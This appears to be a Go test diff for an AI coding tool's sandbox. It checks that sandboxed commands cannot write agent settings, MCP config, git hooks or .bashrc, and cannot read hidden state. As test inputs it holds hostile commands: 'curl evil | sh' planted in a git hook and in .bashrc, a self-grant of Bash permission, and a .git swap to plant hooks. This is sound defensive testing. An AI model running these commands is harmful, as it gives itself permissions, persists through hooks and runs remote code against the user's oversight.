@@ -167,3 +167,93 @@ func TestUnsandboxedRetryFollowsPolicy(t *testing.T) {
 		t.Error("an unavailable or disabled sandbox wraps nothing")
 	}
 }
+
+func TestSandboxCannotCreateProtectedPaths(t *testing.T) {
+	w := newWorld(t, Config{}, nil)
+	w.sb.opts.Protected = []string{".git", ".claude", ".mcp.json", ".bashrc"}
+	attempts := map[string]string{
+		".claude/settings.local.json": `mkdir -p .claude; echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json`,
+		".mcp.json":                   `echo '{"mcpServers":{}}' > .mcp.json`,
+		".git/hooks/pre-commit":       `mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit`,
+		"home/.bashrc":                `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
+	}
+	for target, line := range attempts {
+		out, res := w.run(t, line+" 2>&1")
+		if b, err := os.ReadFile(filepath.Join(w.project, target)); err == nil {
+			t.Errorf("%s: a sandboxed command created %s (%q): %q", line, target, b, out)
+		}
+		if res.ExitCode == 0 {
+			t.Errorf("%s should fail: %q", line, out)
+		}
+	}
+	// The placeholders are gone once no command runs, and nothing else was left behind.
+	for _, p := range []string{".claude", ".mcp.json", ".git", "home/.bashrc"} {
+		if _, err := os.Lstat(filepath.Join(w.project, p)); err == nil {
+			t.Errorf("%s was left in the project", p)
+		}
+	}
+	// A .git that exists keeps its hooks read-only, but git can still write its objects.
+	must(t, os.MkdirAll(filepath.Join(w.project, ".git", "objects"), 0o755))
+	if out, res := w.run(t, "echo x > .git/objects/o && echo hook > .git/hooks/post-checkout 2>&1"); res.ExitCode == 0 {
+		t.Errorf("writing a git hook should fail: %q", out)
+	}
+	if _, err := os.Stat(filepath.Join(w.project, ".git", "objects", "o")); err != nil {
+		t.Errorf("git's objects should stay writable: %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(w.project, ".git", "hooks")); err == nil {
+		t.Error("the hooks placeholder was left behind")
+	}
+	// Nor can the whole .git be carried away and a fresh one, with hooks, put in its place.
+	w.run(t, "mv .git .git-old; mkdir -p .git/hooks && echo hook > .git/hooks/pre-commit")
+	if _, err := os.Stat(filepath.Join(w.project, ".git", "hooks", "pre-commit")); err == nil {
+		t.Error("a sandboxed command replaced .git and planted a hook")
+	}
+	if _, err := os.Stat(filepath.Join(w.project, ".git", "objects", "o")); err != nil {
+		t.Errorf("the original .git should still be in place: %v", err)
+	}
+	// Without the sandbox the same command writes the file: the test can fail.
+	w.sb.SetOn(false)
+	if _, res := w.run(t, attempts[".mcp.json"]); res.ExitCode != 0 {
+		t.Fatal("the control run should write .mcp.json")
+	}
+}
+
+func TestSandboxHidesStateWhereverItIs(t *testing.T) {
+	w := newWorld(t, Config{}, nil)
+	state := filepath.Join(w.project, "elsewhere", "state")
+	must(t, os.MkdirAll(state, 0o700))
+	must(t, os.WriteFile(filepath.Join(state, "trusted-folders.json"), []byte("SECRETSTATE"), 0o600))
+	claudeJSON := filepath.Join(w.project, "cfg", ".claude.json")
+	must(t, os.MkdirAll(filepath.Dir(claudeJSON), 0o700))
+	must(t, os.WriteFile(claudeJSON, []byte("SECRETSTATE"), 0o600))
+	must(t, os.MkdirAll(filepath.Join(state, "projects"), 0o700))
+	// A hidden path inside another (the transcripts in the configuration directory) must not
+	// stop every command: it is hidden with its parent.
+	w.sb.opts.Hidden = []string{state, filepath.Join(state, "projects"), claudeJSON}
+	if out, res := w.run(t, "echo fine"); res.ExitCode != 0 {
+		t.Fatalf("nested hidden paths broke the sandbox: %q", out)
+	}
+	for _, line := range []string{"cat " + filepath.Join(state, "trusted-folders.json"), "cat " + claudeJSON,
+		"echo '{}' > " + claudeJSON + "; cat " + claudeJSON} {
+		if out, _ := w.run(t, line+" 2>&1"); strings.Contains(out, "SECRETSTATE") {
+			t.Errorf("%s read strata's state: %q", line, out)
+		}
+	}
+	if b, _ := os.ReadFile(claudeJSON); string(b) != "SECRETSTATE" {
+		t.Errorf("a sandboxed command rewrote %s: %q", claudeJSON, b)
+	}
+}
+
+func TestSandboxPromptNote(t *testing.T) {
+	st := Status{Available: true, Bwrap: "/usr/bin/bwrap", Socat: "/usr/bin/socat"}
+	on := New(Config{Enabled: true, AllowUnsandboxed: true, AllowedDomains: []string{"github.com"}}, st, Options{})
+	if n := on.PromptNote(); !strings.Contains(n, "github.com") || !strings.Contains(n, "dangerouslyDisableSandbox") {
+		t.Errorf("the note should name the allowed hosts and the way out: %q", n)
+	}
+	if n := New(Config{Enabled: true}, st, Options{}).PromptNote(); strings.Contains(n, "dangerouslyDisableSandbox") {
+		t.Errorf("with unsandboxed commands forbidden the note must not offer the way out: %q", n)
+	}
+	if New(Config{}, st, Options{}).PromptNote() != "" || New(Config{Enabled: true}, Status{}, Options{}).PromptNote() != "" {
+		t.Error("an inactive sandbox says nothing")
+	}
+}
